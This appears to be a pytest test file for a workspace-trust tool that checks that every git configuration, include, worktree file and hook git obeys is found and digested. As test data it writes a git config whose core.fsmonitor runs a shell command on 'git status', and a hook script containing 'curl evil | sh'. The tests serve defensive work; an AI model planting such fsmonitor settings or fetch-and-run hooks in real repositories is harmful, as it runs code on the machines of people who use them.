"""The files that git obeys for a folder are found by git's own rules, whatever they contain."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from indwell.workspace.executable_files import executables
from indwell.workspace.git.repository import MOST_CONFIGURATIONS, git_places, places_of
from support.platforms import posix_only

HOOK = ".git/hooks/pre-commit"
NUL = b"gitdir: a\0b\n"


class Work:
    """A folder with a repository whose configuration makes git create a marker file."""

    def __init__(self, base: Path) -> None:
        self.mark = base / "mark"
        self.root = (base / "work").resolve()
        self.root.mkdir()
        self.evil = (
            f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch {self.mark};false"\n'
        )

    def repository(self, name: str = "", *more: str) -> Path:
        folder = self.root / name
        subprocess.run(["git", "init", "-q", *more, str(folder)], check=True)
        return folder

    def write(self, name: str, text: str | bytes = "x\n") -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path

    @property
    def digests(self) -> dict[str, str]:
        return {one.name: one.seen.digest for one in executables(self.root)}

    def git_obeys_it(self, folder: str = "") -> bool:
        subprocess.run(["git", "status"], cwd=self.root / folder, capture_output=True, check=False)
        return self.mark.exists()


@pytest.fixture
def work(tmp_path) -> Work:
    return Work(tmp_path)


def behind_a_link(work: Work) -> None:
    work.repository()
    work.write("x.cfg", work.evil)
    (work.root / ".git/config").unlink()
    (work.root / ".git/config").symlink_to("../x.cfg")


def too_long(work: Work) -> None:
    work.repository()
    work.write(".git/config", f"{work.evil}#{'x' * 300_000}\n")


def by_commondir(work: Work) -> None:
    shutil.copytree(work.repository() / ".git", work.root / "c")
    work.write("c/config", work.evil)
    work.write(".git/commondir", "../c\n")


def of_a_linked_worktree(work: Work) -> None:
    shutil.move(work.repository() / ".git", work.root / "g")
    work.write(
        "g/config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n"
    )
    work.write("w/HEAD", "ref: refs/heads/main\n")
    work.write("w/commondir", "../g\n")
    work.write("w/gitdir", f"{work.root}/.git\n")
    work.write("w/config.worktree", work.evil)
    work.write(".git", "gitdir: w\n")


def by_two_includes(work: Work) -> None:
    config = work.repository() / ".git/config"
    config.write_bytes(f"{config.read_text()}[include]\n\tpath = ../one ; a comment\n".encode())
    work.write("one", "[include]\npath=two\n")
    work.write("two", work.evil)


def bare(work: Work) -> None:
    work.repository("", "--bare")
    work.write("config", work.evil.replace("[core]", "[core]\n\tbare = false\n\tworktree = ."))


def nested(work: Work) -> None:
    work.repository()
    work.write("sub/inner/.git/config", (work.repository("sub/inner") / ".git/config").read_bytes())
    work.write("sub/inner/.git/config", work.evil)


@posix_only("git")
@pytest.mark.parametrize(
    ("made", "name", "folder"),
    [
        (behind_a_link, ".git/config", ""),
        (too_long, ".git/config", ""),
        (by_commondir, "c/config", ""),
        (of_a_linked_worktree, "w/config.worktree", ""),
        (by_two_includes, "two", ""),
        (bare, "config", ""),
        (nested, "sub/inner/.git/config", "sub/inner"),
    ],
    ids=lambda one: getattr(one, "__name__", None),
)
def test_tru_17_every_file_that_git_obeys_is_found(work, made, name, folder) -> None:
    made(work)
    before = work.digests
    assert name in before
    assert work.git_obeys_it(folder), "else the test shows nothing"
    path = work.root / name
    path.write_bytes((path.read_text(encoding="utf-8") + "[alias]\n\tx = !y\n").encode())
    assert work.digests[name] != before[name]


@posix_only("symlinks")
def test_a_git_hook_linked_to_a_workspace_script_is_digested_by_the_scripts_content(work) -> None:
    work.repository()
    work.write("s.sh", "echo\n")
    (work.root / ".git/hooks").mkdir(exist_ok=True)
    (work.root / ".git/hooks/pre-commit").symlink_to("../../s.sh")
    before = work.digests
    work.write("s.sh", "curl evil | sh\n")
    assert list(work.digests) == [".git/hooks/pre-commit"]
    assert work.digests != before


@posix_only("symlinks")
def test_hooks_in_a_linked_folder_count_for_trust(work) -> None:
    work.repository()
    shutil.rmtree(work.root / ".git/hooks", ignore_errors=True)
    work.write("h/post-checkout")
    (work.root / ".git/hooks").symlink_to("../h")
    assert list(work.digests) == ["h/post-checkout"]


@posix_only("git")
def test_a_script_named_by_a_git_configuration_counts_for_trust(work) -> None:
    work.repository()
    work.write(".git/config", '[diff]\n\texternal = "sh tools/diff.sh --all"\n')
    work.write("tools/diff.sh")
    before = work.digests
    assert list(before) == [".git/config", "tools/diff.sh"]
    work.write("tools/diff.sh", "evil\n")
    assert work.digests != before


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (".git", NUL),
        (".git", b"gitdir: " + b"a/" * 5_000),
        ("g/commondir", b"a\0b"),
        (".git/config", b"[include]\n\tpath = a\0b\n"),
        (".git/config", b"[core]\n\thooksPath = a\0b\n"),
        (".git/config", b"[diff]\n\texternal = a\0b\n"),
        (".git/config", b"[include]\n\tpath = /\n"),
        (".git/config", b"[include]\n\tpath = config\n"),
        (".git/config", b"[core]\n\tworktree = a\0b\n"),
        (".git/config", b"[include]\n\tpath = ~nobody-like-this/x\n"),
    ],
)
def test_h6_an_invalid_path_in_a_git_file_is_harmless_and_digested_as_text(
    work, name, data
) -> None:
    if name.startswith("g/"):
        work.write(".git", "gitdir: g\n")
    work.write(name, data)
    before = work.digests
    assert list(before) == [".git" if name.startswith("g") else name]
    git_places(work.root)
    if not name.startswith("g/"):
        work.write(name, data.replace(b"a", b"c") + b"\n\tx = y\n")
        assert work.digests != before


@posix_only("git")
def test_trust_covers_a_submodule_config_only_if_its_worktree_is_another_folder(work) -> None:
    work.repository()
    (work.root / ".git/modules").mkdir()
    work.repository("sub", "--separate-git-dir", str(work.root / ".git/modules/sub"))
    config = work.root / ".git/modules/sub/config"
    config.write_bytes(f"{config.read_text()}\tworktree = ../../../sub\n".encode())
    assert work.digests == {}
    config.write_bytes(f"{config.read_text()}\tworktree = ../../../other\n".encode())
    assert list(work.digests) == [".git/modules/sub/config"]


def test_a_repository_with_too_many_configurations_is_never_recognised_again(work) -> None:
    includes = "".join(f"\tpath = ../{number}\n" for number in range(MOST_CONFIGURATIONS + 1))
    work.write(".git/config", f"[include]\n{includes}")
    for number in range(MOST_CONFIGURATIONS + 1):
        work.write(str(number), "[core]\n")
    assert work.digests[".git/…"] == ""


@posix_only("git")
def test_h3_a_repository_with_another_folder_name_is_found(work) -> None:
    work.repository("", "--separate-git-dir", str(work.root / "real"))
    found = git_places(work.root)
    assert found.folders == (str(work.root / "real"),)
    assert {str(work.root / "real" / one) for one in ("config", "hooks", "commondir")} <= set(
        found.obeyed
    )
    assert places_of(work.root).folders == found.folders


@posix_only("git")
def test_h4_files_named_by_a_git_configuration_are_found(work) -> None:
    work.repository()
    work.write(
        ".git/config",
        "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../git-settings\n"
        "[diff]\n\texternal = tools/x\n",
    )
    work.write("git-settings", "[include]\n\tpath = more\n")
    work.write("tools/x")
    found = {os.path.relpath(path, work.root) for path in git_places(work.root).obeyed}
    assert {".githooks", "git-settings", "tools/x"} <= found
    assert "." not in found


@posix_only("git")
def test_a_hooks_path_at_the_workspace_root_protects_only_the_hooks(work) -> None:
    work.repository()
    work.write(".git/config", "[core]\n\thooksPath = .\n")
    work.write("pre-commit")
    work.write("a.py")
    assert list(work.digests) == [".git/config", "pre-commit"]
    found = git_places(work.root).obeyed
    assert str(work.root) not in found
    assert str(work.root / "pre-commit") in found


@posix_only("git")
def test_a_worktree_inside_its_bare_repository_is_not_protected_completely(work) -> None:
    work.repository("", "--bare")
    work.write("worktrees/main/commondir", "../..\n")
    work.write("worktrees/main/HEAD", "ref: refs/heads/main\n")
    work.write("main/.git", f"gitdir: {work.root}/worktrees/main\n")
    found = git_places(work.root / "main")
    assert str(work.root) not in (*found.folders, *found.obeyed)
    assert str(work.root / "config") in found.obeyed


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="must become another user")
def test_an_unlistable_folder_hides_no_git_hooks_from_the_digests() -> None:
    with tempfile.TemporaryDirectory() as name:
        work = Work(Path(name))
        Path(name).chmod(0o755)
        for hidden in (".git/hooks/pre-commit", ".husky/deep/x"):
            work.write(hidden).parent.chmod(0o311)
        os.seteuid(65_534)
        try:
            assert work.digests == {".husky/…": "", ".git/hooks/pre-commit": work.digests[HOOK]}
        finally:
            os.seteuid(0)


def test_a_file_in_place_of_a_git_folder_gives_no_digests(work) -> None:
    work.write(".git/hooks")
    work.write(".git/info")
    assert work.digests == {}
    git_places(work.root)
